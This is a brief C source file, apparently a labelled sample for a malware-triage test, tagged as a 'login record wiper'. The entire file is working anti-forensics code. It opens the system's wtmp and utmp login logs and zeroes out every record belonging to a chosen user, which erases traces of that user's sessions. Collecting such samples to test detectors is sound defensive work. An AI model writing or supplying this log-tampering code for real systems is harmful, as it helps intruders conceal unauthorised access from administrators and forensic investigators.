/* triage-expect: triage_login_record_wiper
 * Log cleaner shape: walk wtmp and utmp, blank the records of one user in place. */
#include <utmp.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

static void blank(const char *file, const char *user) {
    struct utmp rec;
    int fd = open(file, O_RDWR);
    if (fd < 0) return;
    while (read(fd, &rec, sizeof rec) == sizeof rec) {
        if (strncmp(rec.ut_user, user, sizeof rec.ut_user) == 0) {
            memset(&rec, 0, sizeof(rec));
            lseek(fd, -(off_t)sizeof(rec), SEEK_CUR);
            write(fd, &rec, sizeof rec);
        }
    }
    close(fd);
}

int main(int argc, char **argv) {
    if (argc < 2) return 1;
    blank(_PATH_WTMP, argv[1]);
    blank(_PATH_UTMP, argv[1]);
    return 0;
}
